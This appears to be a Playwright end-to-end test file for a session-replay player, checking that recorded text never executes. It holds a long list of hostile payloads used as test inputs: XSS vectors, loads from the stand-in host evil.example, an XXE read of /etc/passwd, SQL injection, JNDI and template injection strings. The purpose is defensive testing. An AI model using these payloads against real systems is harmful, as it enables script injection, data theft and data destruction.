"""Recorded text is hostile: wherever the player shows it, it stays text. It opens no dialog, sends no request and
breaks no rule of the page; the watch on every window fails the test otherwise."""

from __future__ import annotations

import re

import httpx
import pytest
from playwright.sync_api import Page, expect
from tests.e2e.test_player import conversation, inspector, play_page
from tests.support.players import call, moment, recorded, step

EVIL = "https://evil.example/x"
PAYLOADS = [
    "<script>alert(1)</script>",
    f"<script src={EVIL}.js></script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}.png">',
    f"![picture]({EVIL}.png)",
    f'![picture]({EVIL}.png "title")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[click]({EVIL})",
    f"<{EVIL}>",
    EVIL,
    "[ref]: javascript:alert(1)\n\n[ref]",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
    f'<link rel=stylesheet href="{EVIL}.css">',
    f"<style>@import url({EVIL}.css); * {{ background: url({EVIL}.png) }}</style>",
    f'<div style="background: url({EVIL}.png)">styled</div>',
    f'<base href="{EVIL}/"><a href="x">based</a>',
    f'<meta http-equiv="refresh" content="0; url={EVIL}">',
    f'<form action="{EVIL}"><input autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f'<video poster="{EVIL}.png"></video><audio src="{EVIL}.mp3" autoplay></audio>',
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="javas&#99;ript:alert(1)" autofocus>link</a>',
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```js onmouseover=alert(1)\nalert(1)\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n| :-: |\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html '<img src=x onerror=alert(1)>'}",
    "</textarea></title></script><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f'<img srcset="{EVIL}.png 1x, {EVIL}2.png 2x">',
    f'<picture><source srcset="{EVIL}.webp"><img src=x></picture>',
    f'<img lowsrc="{EVIL}.png" dynsrc="{EVIL}.avi">',
    f'<input type=image src="{EVIL}.png">',
    f'<body background="{EVIL}.png">',
    f'<table background="{EVIL}.png"><td background="{EVIL}.png">cell',
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>click</text></a></svg>",
    f'<svg><image href="{EVIL}.png" /></svg>',
    f'<svg><use href="{EVIL}.svg#x" /></svg>',
    f'<svg><feImage href="{EVIL}.png" /></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><style>{font-family:'<img src=x onerror=alert(1)>'}</style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<math href=javascript:alert(1)>click</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>go</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<a href=javascript&colon;alert&lpar;1&rpar;>link</a>",
    '<a href="\x01javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    f'<a href="{EVIL}" target=_blank ping="{EVIL}">link</a>',
    "<a href='vbscript:msgbox(1)'>link</a>",
    "<area href=javascript:alert(1)>",
    "<div onmouseover=alert(1) style='position:fixed;inset:0'>over everything</div>",
    "<div onpointerenter=alert(1)>hover</div>",
    '<p style="animation-name:x" onanimationstart=alert(1)>moves</p>',
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1)>x</b>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    f'<video><track src="{EVIL}.vtt" default></video>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    f'<frameset><frame src="{EVIL}"></frameset>',
    f'<portal src="{EVIL}"></portal>',
    f'<link rel=preload href="{EVIL}" as=image><link rel=dns-prefetch href="{EVIL}">',
    f'<link rel=icon href="{EVIL}.ico">',
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base target=_top href=javascript:alert(1)//>",
    "<xss contenteditable onbeforeinput=alert(1) autofocus tabindex=1>",
    "<x-frame onconnected=alert(1)>",
    "<slot onslotchange=alert(1)><template shadowrootmode=open><script>alert(1)</script></template>",
    "<title></title><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    '![a](x "onerror=alert(1)")',
    '![a](" onerror="alert(1))',
    f"[![x]({EVIL}.png)]({EVIL})",
    f"![]({EVIL}.svg#x)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](DATA:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x]: //evil.example 'onclick=alert(1)'\n[x]",
    "<javascript:alert(1)>",
    "[a](javascript&#58;alert(1))",
    '```"onclick="alert(1)\ncode\n```',
    "~~~<img/src/onerror=alert(1)>\ncode\n~~~",
    "| <img src=x onerror=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>",
    "1. <iframe src=javascript:alert(1)></iframe>",
    "__proto__[onerror]=alert(1)",
    '{"__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}, "constructor": {"prototype": {"x": 1}}}',
    "\u2028</script><script>alert(1)</script>\u2029",
    "\u202eevil\u202c \u200f\u200e" + "\u0301" * 300,
    "../../../../etc/passwd",
    "C:\\windows\\<img src=x onerror=alert(1)>.py",
    "'; DROP TABLE events; --",
    "${jndi:ldap://evil.example/x} {{7*7}} <%= 7*7 %> #{7*7}",
    '=HYPERLINK("https://evil.example","click")',
    "\u202egnp.exe \u2066hidden\u2069 \u0000 \ufeff zero\u200bwidth",
    "x" * 20_000,
    "(" * 500 + "[" * 500 + ">" * 300 + "*_" * 500,
]


def hostile_session(client: httpx.Client) -> str:
    """Record every payload in every place that the player shows."""
    events = []
    for i, payload in enumerate(PAYLOADS):
        shown = payload.replace("\u0000", "")
        base = i * 4
        picture = {"type": "image_url", "image_url": {"url": f"{EVIL}.png"}}
        events += [
            call(
                base + 1,
                [{"role": "user", "content": [{"type": "text", "text": payload}, picture]}],
                payload,
                id=f"c{i}",
                latency=500,
            ),
            call(base + 1.5, payload, None, error={"message": payload}, id=f"f{i}", latency=100, provider=shown[:400]),
            step(
                base + 2, shown[:400], input={"text": payload}, output=payload, error=payload, id=f"s{i}", latency=100
            ),
            moment(
                base + 2.5, "user_action", action=shown[:400], target=payload, metadata={"text": payload}, id=f"u{i}"
            ),
            moment(base + 3, "code_context", file=shown[:400], snippet=payload, language=shown[:40], id=f"k{i}"),
            moment(base + 3.5, "feedback", score=shown[:100], comment=payload, id=f"b{i}"),
        ]
    return recorded(
        client, *events, until=len(PAYLOADS) * 4, label="<img src=x onerror=alert(1)>", userId="<b>user</b>"
    )


EVERY_EVENT = """
async () => {
  const pane = document.querySelector('section[aria-label=Inspector]');
  const frame = () => new Promise(requestAnimationFrame);
  const place = () => Number(/event ([\\d,]+) of/.exec(pane.textContent)[1].replace(',', ''));
  const key = { key: 'ArrowRight', shiftKey: true, bubbles: true, cancelable: true };
  const empty = [];
  for (let last = 0; place() !== last; ) {
    last = place();
    for (let i = 0; i < 300 && pane.textContent.includes('Loading the event'); i++) await frame();
    await frame();
    if (pane.textContent.includes('could not be loaded')) empty.push(last);
    document.body.dispatchEvent(new KeyboardEvent('keydown', key));
    await frame();
  }
  return [place(), empty];
}
"""
STRANGE = (
    "main :is(iframe, frame, object, embed, style, script, video, audio, base, link, meta, portal, math, template)"
)


@pytest.mark.timeout(180)
def test_hostile_text_stays_text_in_every_view_of_the_player(page: Page, api: httpx.Client) -> None:
    assert len(PAYLOADS) >= 120
    play_page(page, hostile_session(api))
    expect(page.get_by_role("heading", level=1)).to_have_text("<img src=x onerror=alert(1)>")
    page.keyboard.press("Shift+ArrowRight")
    assert page.evaluate(EVERY_EVENT) == [len(PAYLOADS) * 6, []]
    expect(conversation(page)).to_contain_text("(((((")
    page.get_by_role("button", name="Raw JSON").click()
    expect(inspector(page)).to_contain_text('"seq"')
    # Looking for what is hostile shows it once more, marked.
    page.keyboard.press("/")
    page.keyboard.type("<img src=x onerror")
    page.keyboard.press("Enter")
    expect(page.get_by_role("search")).to_contain_text(re.compile(r"\d+ of \d+"))
    assert page.locator("main a[href]:not([href^='/'])").count() == 0
    assert page.locator(STRANGE).count() == 0
    assert page.locator("main svg:not(.lucide)").count() == 0


def test_hostile_notes_stay_text(page: Page, api: httpx.Client) -> None:
    session_id = recorded(api, call(2, "Hi", "Ho", id="c", latency=100), until=130)
    notes = f"/api/session-replay/{session_id}/notes"
    for place, payload in enumerate(PAYLOADS[:60]):
        api.post(notes, json={"at": place * 2000, "text": payload.replace("\0", "")[:5000]}).raise_for_status()
    play_page(page, session_id)
    page.get_by_role("button", name="Notes 60").click()
    expect(page.get_by_role("region", name="Notes").get_by_role("article")).to_have_count(60)
    assert page.locator("main a[href]:not([href^='/'])").count() == 0
    assert page.locator(STRANGE).count() == 0


def test_tool_calls_and_results_open_as_text(page: Page, api: httpx.Client) -> None:
    evil = "<img src=x onerror=alert(1)>"
    answer = [
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"function": {"name": evil, "arguments": f'{{"q": "{evil}"}}'}}],
        }
    ]
    asked = [{"role": "user", "content": "Go"}, {"role": "tool", "name": evil, "content": evil}]
    session_id = recorded(api, call(2, asked, answer, id="c", latency=100), until=3)
    play_page(page, session_id, "?event=c")
    folded = conversation(page).locator("summary")
    expect(folded).to_have_count(2)
    for summary in folded.all():
        summary.click()
    expect(conversation(page)).to_contain_text('"q": "<img src=x onerror=alert(1)>"')
